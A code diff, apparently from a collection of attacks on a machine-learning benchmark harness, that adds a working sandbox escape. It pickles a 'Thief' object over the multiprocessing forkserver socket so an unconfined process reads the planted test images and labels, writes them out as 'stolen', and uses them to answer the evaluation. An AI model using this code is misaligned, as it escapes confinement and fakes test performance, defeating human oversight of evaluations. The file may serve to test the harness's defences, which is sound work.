@@ -593,6 +593,31 @@ for each in (TellsItsOwnAudit, WritesLater, WritesImages, ReadsTheFolder):
 # Leaving the process, or talking out of it.
 
 
+class Thief:
+    """What a process that nothing confines executes."""
+
+    def _bootstrap(self, sentinel):
+        from benchbench import open_dataset
+
+        known = labels_by_pixels(open_dataset(os.environ["PLANTED_PICTURES"]))
+        Path(RESULTS).joinpath("stolen").write_bytes(pickle.dumps(known))
+        return 0
+
+
+def order_a_fork(client: socket.socket) -> None:
+    """What `multiprocessing` says to the server of its start method `forkserver`."""
+    from multiprocessing import reduction
+
+    (orders, mine), (status, its_status), (alive, _) = os.pipe(), os.pipe(), os.pipe()
+    nothing = os.open(os.devnull, os.O_WRONLY)
+    reduction.sendfds(client, [orders, its_status, alive, nothing])
+    with os.fdopen(mine, "wb") as pipe:
+        pickle.dump({"sys_path": sys.path}, pipe)
+        pickle.dump(Thief(), pipe)
+    for _ in ("number of the process", "its exit code"):
+        os.read(status, 8)
+
+
 class AsksTheTemplate(Knows):
     """Has the process that forks methods fork one more, which nothing confines."""
 
@@ -609,7 +634,7 @@ class AsksTheTemplate(Knows):
             with socket.socket(socket.AF_UNIX) as client:
                 client.connect(address)
                 print("the template listens to", self.name)
-                order_a_fork(client, stranger)
+                order_a_fork(client)
                 self.known = True
 
     def adapt(self, support):
@@ -619,6 +644,9 @@ class AsksTheTemplate(Knows):
 
     def classes(self, images):
         return [self.known[one.tobytes()] for one in images.array]
+
+
+train_quietly(AsksTheTemplate)
 
 
 # Looking at the other queries though it claims not to.
